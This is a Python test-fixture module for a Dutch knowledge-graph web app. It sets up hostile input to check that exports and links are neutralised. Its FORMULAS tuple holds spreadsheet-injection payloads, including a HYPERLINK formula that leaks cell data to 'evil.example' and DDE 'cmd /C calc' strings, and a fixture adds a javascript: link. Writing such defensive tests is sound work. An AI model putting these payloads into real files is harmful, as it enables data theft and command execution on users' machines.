"""Hostile input: what an attacker or a clumsy editor puts in, and what must never come out.

``hostile_store`` is the mini knowledge base with a source whose page is a ``javascript:``
link, cited by solution S01 (loaded and validated like any file). The attack strings are in
:data:`FORMULAS`. Shared fixtures (``mini_store``, ``mini_store_ro``, ``kb_store``) live in
``tests/conftest.py``."""

from __future__ import annotations

import pytest

from graph.kb.loading import ensure_ready, load_paths, open_store
from tests.conftest import MINI

#: cell values a spreadsheet would run as formulas (OWASP "CSV injection"), each kept exactly
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
)
SCRIPT_LINK = "javascript:alert(document.domain)"
HOSTILE_TTL = f"""\
@prefix wgd: <https://w3id.org/wijkgraaf/id/> .
@prefix wg: <https://w3id.org/wijkgraaf/def#> .
@prefix dcterms: <http://purl.org/dc/terms/> .
@prefix foaf: <http://xmlns.com/foaf/0.1/> .
@prefix xsd: <http://www.w3.org/2001/XMLSchema#> .

wgd:bron-kwaad a wg:Source ; dcterms:title "Kwade bron" ; dcterms:issued "2021"^^xsd:gYear ;
    wg:sourceType wgd:bron-praktijkbeschrijving ; foaf:page <{SCRIPT_LINK}> .
wgd:S01 dcterms:source wgd:bron-kwaad .
"""


@pytest.fixture
def hostile_store(tmp_path):
    """A fresh in-memory mini store with a source whose page is a ``javascript:`` link."""
    extra = tmp_path / "kwaad.ttl"
    extra.write_text(HOSTILE_TTL, encoding="utf-8")
    store = ensure_ready(open_store(), bundled=False)
    load_paths(store, [MINI, extra])
    return store


ROUTER = '''
import streamlit as st
from app_lib import editor_common, state
state.configure(state.Settings(store=":memory:", data=({data!r},), lang="nl"))
state.sidebar_language()
editor_common.configure_editor("geheim")
pages = [st.Page(f"app_pages/{{n}}.py", url_path=n, default=n == "editor_edit")
         for n in ("editor_edit", "obstacle", "solution", "network")]
st.navigation(pages).run()
'''


@pytest.fixture
def edit_page(tmp_path):
    """``make(**query)``: an AppTest of the edit page (password ``geheim``) on a private copy
    of mini.ttl (its own path, so its own cached store)."""
    import shutil
    import uuid
    from pathlib import Path

    from streamlit.testing.v1 import AppTest

    root = Path(__file__).resolve().parents[2]
    data = tmp_path / uuid.uuid4().hex / "mini.ttl"
    data.parent.mkdir()
    shutil.copy(MINI, data)
    routers = []

    def make(**params: str) -> AppTest:
        router = root / f"_hostile_router_{uuid.uuid4().hex}.py"
        router.write_text(ROUTER.format(data=str(data)), encoding="utf-8")
        routers.append(router)
        at = AppTest.from_file(str(router), default_timeout=90)
        for key, value in params.items():
            at.query_params[key] = value
        return at.run()

    yield make
    for router in routers:
        router.unlink(missing_ok=True)
